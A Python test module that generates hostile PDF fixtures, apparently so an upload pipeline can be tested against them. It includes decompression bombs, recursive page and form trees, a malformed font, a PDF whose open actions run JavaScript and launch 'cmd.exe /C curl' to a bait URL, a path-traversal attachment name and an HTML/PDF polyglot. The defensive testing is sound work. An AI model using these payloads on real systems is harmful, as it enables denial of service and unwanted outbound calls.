"""PDFs that loop, swell, act on their own, or are locked."""

import io
import zlib

from pypdf import PdfReader, PdfWriter

from tests.uploads.building import pdf, stream
from tests.uploads.hostile import plain
from tests.uploads.hostile.corpus import PARTLY, READ, Bait, hostile

CATALOG = b"<< /Type /Catalog /Pages 2 0 R %s >>"
PAGES = b"<< /Type /Pages /Kids [%s] /Count %d >>"
PAGE = (
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> %s >> >>"
)
WORDS = stream(b"BT /F 24 Tf 72 700 Td (Hello there, this is the text.) Tj ET")
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
EMPTY = stream(b"")
NOTHING = ("broken", "empty", PARTLY, READ)


def one_page(
    *more: bytes,
    catalog: bytes = b"",
    contents: bytes = WORDS,
    resources: bytes = b"",
    font: bytes = FONT,
    page: bytes = b"",
) -> bytes:
    body = page or PAGE % resources
    return pdf(CATALOG % catalog, PAGES % (b"3 0 R", 1), body, contents, font, *more)


@hostile("pages-that-hold-themselves.pdf", *NOTHING)
def _(bait: Bait) -> bytes:
    return pdf(CATALOG % b"", b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>")


@hostile("bottomless-pages.pdf", *NOTHING, "too_many_pages")
def _(bait: Bait) -> bytes:
    depth = 20_000
    nodes = [b"<< /Type /Pages /Kids [%d 0 R] /Count 1 /Parent %d 0 R >>" % (n + 1, n - 1) for n in range(2, depth)]
    return pdf(CATALOG % b"", *nodes, b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 612 792] >>" % (depth - 1))


@hostile("two-billion-pages.pdf", "too_many_pages", *NOTHING)
def _(bait: Bait) -> bytes:
    return pdf(CATALOG % b"", PAGES % (b"3 0 R", 2_147_483_647), PAGE % b"", WORDS, FONT)


@hostile("five-thousand-pages.pdf", "too_many_pages")
def _(bait: Bait) -> bytes:
    pages = [PAGE % b"" for _ in range(5_000)]
    kids = b" ".join(b"%d 0 R" % (number + 6) for number in range(5_000))
    return pdf(CATALOG % b"", PAGES % (kids, 5_000), PAGE % b"", WORDS, FONT, *pages)


@hostile("table-that-follows-itself.pdf", *NOTHING)
def _(bait: Bait) -> bytes:
    whole = one_page()
    at = whole.rfind(b"\nxref\n") + 1
    return whole.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % at)


@hostile("length-of-itself.pdf", *NOTHING)
def _(bait: Bait) -> bytes:
    return one_page(contents=b"<< /Length 4 0 R >>\nstream\nBT ET\nendstream")


@hostile("stream-that-swells.pdf", "bomb", "memory", "too_large", *NOTHING)
def _(bait: Bait) -> bytes:
    """A fifth of a gigabyte, packed twice over to a few hundred bytes."""
    squeeze = zlib.compressobj(6)
    packed = b"".join(squeeze.compress(b" " * 1024**2) for _ in range(200)) + squeeze.flush()
    return one_page(contents=stream(zlib.compress(packed, 9), b"/Filter [/FlateDecode /FlateDecode]"))


@hostile("page-as-large-as-a-town.pdf", "bomb", "too_large", *NOTHING)
def _(bait: Bait) -> bytes:
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 1000000000 1000000000] /Contents 4 0 R /Resources << >> >>"
    return one_page(page=page, contents=stream(b"0 0 1000 1000 re f"))


@hostile("page-of-no-size.pdf", *NOTHING)
def _(bait: Bait) -> bytes:
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 0 -1e308] /Contents 4 0 R /Resources << >> >>"
    return one_page(page=page, contents=stream(b"0 0 1000 1000 re f"))


@hostile("picture-as-large-as-a-town.pdf", "bomb", "too_large", *NOTHING)
def _(bait: Bait) -> bytes:
    image = stream(
        zlib.compress(bytes(1_000_000)),
        b"/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /ColorSpace /DeviceGray /BitsPerComponent 8"
        b" /Filter /FlateDecode",
    )
    return one_page(image, contents=stream(b"612 0 0 792 0 0 cm /I Do"), resources=b"/XObject << /I 6 0 R >>")


@hostile("form-that-draws-itself.pdf", *NOTHING)
def _(bait: Bait) -> bytes:
    form = stream(
        b"/X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /XObject << /X 6 0 R >> >>"
    )
    return one_page(form, contents=stream(b"/X Do"), resources=b"/XObject << /X 6 0 R >>")


@hostile("forms-that-double.pdf", "timeout", "memory", "crashed", *NOTHING)
def _(bait: Bait) -> bytes:
    """Each draws the next one twice, 30 deep: a thousand million in the end."""
    depth = 30
    forms = [
        stream(
            b"/X Do /X Do",
            b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /XObject << /X %d 0 R >> >>"
            % (number + 1),
        )
        for number in range(6, 6 + depth)
    ]
    last = stream(b"0 0 9 9 re f", b"/Type /XObject /Subtype /Form /BBox [0 0 612 792]")
    return one_page(*forms, last, contents=stream(b"/X Do"), resources=b"/XObject << /X 6 0 R >>")


@hostile("endless-drawing.pdf", *NOTHING, "timeout")
def _(bait: Bait) -> bytes:
    lines = zlib.compress(b"0 0 m 600 700 l S q " * 400_000)
    return one_page(contents=stream(lines, b"/Filter /FlateDecode"))


@hostile("letter-by-letter.pdf", READ, "too_large")
def _(bait: Bait) -> bytes:
    letters = b"".join(b"BT /F 9 Tf %d %d Td (x) Tj ET " % (n % 600, n // 600) for n in range(60_000))
    return one_page(contents=stream(zlib.compress(letters), b"/Filter /FlateDecode"))


@hostile("broken-font.pdf", READ, *NOTHING)
def _(bait: Bait) -> bytes:
    font = b"<< /Type /Font /Subtype /TrueType /BaseFont /Evil /FontDescriptor 6 0 R /ToUnicode 8 0 R >>"
    descriptor = b"<< /Type /FontDescriptor /FontName /Evil /Flags 4 /FontFile2 7 0 R >>"
    tables = b"\x00\x01\x00\x00\xff\xff" + bytes(6) + b"glyf" + b"\xff" * 12 + b"loca" + b"\xff" * 12 + bytes(100)
    mapping = b"1 begincodespacerange <00> <ff> endcodespacerange 1 beginbfrange <00> <ff> <d800> endbfrange"
    return one_page(descriptor, stream(tables), stream(mapping), font=font)


@hostile("outline-that-follows-itself.pdf", READ)
def _(bait: Bait) -> bytes:
    entry = b"<< /Title (Chapter) /Parent 6 0 R /Next 7 0 R /First 6 0 R /Dest [3 0 R /Fit] >>"
    outline = b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 2147483647 >>"
    return one_page(outline, entry, catalog=b"/Outlines 6 0 R")


@hostile("acts-on-its-own.pdf", READ)
def _(bait: Bait) -> bytes:
    """Script, a program, a form, another file: each on opening."""
    url, secret = bait.url.encode(), str(bait.secret).encode()
    script = (
        b"<< /S /JavaScript /JS (app.launchURL\\('%s'\\); this.exportDataObject\\({cName:'a'}\\)) /Next 7 0 R >>" % url
    )
    program = b"<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/C curl %s) >> /Next 8 0 R >>" % url
    form = b"<< /S /SubmitForm /F << /FS /URL /F (%s) >> /Next 9 0 R >>" % url
    other = b"<< /S /GoToR /F (%s) /D [0 /Fit] /Next 10 0 R >>" % secret
    address = b"<< /S /URI /URI (%s) >>" % url
    return one_page(script, program, form, other, address, catalog=b"/OpenAction 6 0 R /AA << /WC 6 0 R >>")


@hostile("files-inside.pdf", READ)
def _(bait: Bait) -> bytes:
    writer = PdfWriter(clone_from=io.BytesIO(plain.page()))
    writer.add_attachment("../../escaped.txt", b"escaped")
    writer.add_attachment("a.docm", plain.document())
    return plain.written(writer.write)


def encrypted(user: str, owner: str, algorithm: str) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(plain.page())))
    writer.encrypt(user, owner, algorithm=algorithm)
    return plain.written(writer.write)


@hostile("password.pdf", "encrypted")
def _(bait: Bait) -> bytes:
    return encrypted("password", "owner", "AES-256")


@hostile("old-password.pdf", "encrypted")
def _(bait: Bait) -> bytes:
    return encrypted("password", "owner", "RC4-128")


@hostile("may-be-read-not-changed.pdf", READ)
def _(bait: Bait) -> bytes:
    """Only the owner has a password: every viewer opens it."""
    return encrypted("", "owner", "AES-256")


@hostile("pdf-and-archive.pdf", READ)
def _(bait: Bait) -> bytes:
    return plain.page() + plain.document()


@hostile("pdf-and-page.pdf", READ, *NOTHING)
def _(bait: Bait) -> bytes:
    return f"<html><script src='{bait.url}'></script>\x00\x01<!--".encode() + plain.page() + b"-->"


@hostile("only-a-signature.pdf", "broken", "empty")
def _(bait: Bait) -> bytes:
    return b"%PDF-1.7\n"


@hostile("pdf-named.txt", READ)
def _(bait: Bait) -> bytes:
    return plain.page()
